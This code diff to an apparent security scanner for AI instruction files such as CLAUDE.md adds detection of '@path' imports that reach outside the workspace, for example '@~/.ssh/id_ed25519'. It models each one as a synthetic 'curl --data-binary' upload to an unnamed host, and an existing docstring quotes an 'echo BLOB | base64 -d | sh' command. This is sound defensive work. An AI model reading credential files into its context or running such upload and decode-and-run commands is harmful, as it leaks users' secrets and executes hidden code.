@@ -112,6 +112,14 @@ _DECODE_RUN = re.compile(
 _B64_BLOB = re.compile(r"(?<![\w+/])[A-Za-z0-9+/]{24,}={0,2}(?![\w+/=])")
 
 
+# An instruction file's import of another file (``@path``, CLAUDE.md's and GEMINI.md's
+# syntax) that lies outside the workspace: the home, an absolute path, a parent directory.
+_IMPORT = re.compile(r"(?m)(?:^|\s)@((?:~|\$HOME|/|\.\./)[^\s`'\"]+)")
+
+# Prose an import is meant for (notes, conventions): what the model reads as context anyway.
+_PROSE = re.compile(r"(?i)\.(?:md|markdown|mdx|txt|rst|adoc|org)$")
+
+
 def _decode_and_run(text: str) -> str:
     """An order to decode a base64 blob and run it, as the shell it amounts to (``echo BLOB |
     base64 -d | sh``): the shell analysis then judges decoded execution and what it reaches."""
@@ -144,6 +152,11 @@ def instruction_script(text: str, *, unnamed: bool = False) -> str:
     ):
         return ""
     lines: list[str] = []
+    for path in [p for p in _IMPORT.findall(text)[:8] if not _PROSE.search(p)]:
+        # ``@~/.ssh/id_ed25519``: an import every later session reads into the model's
+        # context, which goes to the model's provider. Spelled as an upload of that file to
+        # an unnamed host, so the credential catalogue decides (a workspace doc stays out).
+        lines.append(f"curl --data-binary @{path.rstrip('.,;:)')} '{_UNNAMED}'")
     for block in _FENCE.findall(text)[:16]:
         lines.extend(line for line in block.splitlines() if line.strip())
     lines.extend(_TICKS.findall(text)[:64])
